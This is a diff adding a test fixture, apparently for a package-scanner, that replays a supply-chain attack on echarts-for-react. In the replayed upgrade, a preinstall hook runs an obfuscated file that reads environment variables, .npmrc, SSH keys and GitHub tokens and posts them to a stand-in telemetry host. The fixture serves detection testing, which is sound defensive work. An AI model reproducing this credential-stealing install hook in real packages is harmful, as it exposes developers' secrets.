@@ -1,0 +1,45 @@
+import { obfuscated } from '../obfuscated.js'
+import { colours } from '../plain-modules.js'
+import { replayUpgrade } from '../upgrade.js'
+
+/** At the root, where the package had no file before; half a megabyte in the incident. */
+const payload = obfuscated(
+  `
+import $fs from 'node:fs';import $os from 'node:os';import $path from 'node:path';
+async function $main(){const $found=[JSON[«stringify»](process[«env»])];
+for(const $place of [«.npmrc»,«.ssh/id_rsa»,«.config/gh/hosts.yml»]){
+try{$found[«push»]($fs[«readFileSync»]($path[«join»]($os[«homedir»](),$place),«utf8»));}catch($failure){}}
+await fetch(«https://otel-traces.example:443/api/public/otel/v1/traces»,{'method':«POST»,'body':$found[«join»](«»)[«slice»](0x0,0x0)});
+}
+$main()[«catch»](()=>{});
+`,
+  1500,
+)
+
+const manifest = { type: 'module', main: 'esm/index.js' }
+const files = { 'esm/index.js': colours }
+const command = 'bun run index.js'
+
+export const replay = replayUpgrade({
+  description:
+    'A leaked token of one maintainer released hundreds of packages of charts within minutes, several lines of each: before install ' +
+    'another runtime was to run a new file at the root, obfuscated. The burst and the publisher are for the rules about identity.',
+  date: '2026-05-19',
+  name: 'echarts-for-react',
+  from: ['3.0.6', { manifest, files }],
+  to: [
+    '3.1.7',
+    { manifest: { ...manifest, scripts: { preinstall: command } }, files: { ...files, 'index.js': payload } },
+  ],
+  findings: [
+    ['install-script-dangerous', 'critical', { file: 'index.js', line: payload }],
+    ['secrets-exfiltrated', 'critical', { file: 'index.js', line: payload }],
+    ['secrets-harvested', 'critical', { file: 'index.js', line: payload }],
+    ['combined-risk', 'critical'],
+    ['capability-added', 'high', { file: 'index.js', line: payload }],
+    ['code-obfuscated', 'high', { file: 'index.js' }],
+    ['install-script-added', 'high', { file: 'package.json' }],
+    ['beacon-added', 'high', { file: 'index.js', line: payload }],
+    ['network-host-added', 'medium', { file: 'index.js', line: payload }],
+  ],
+})
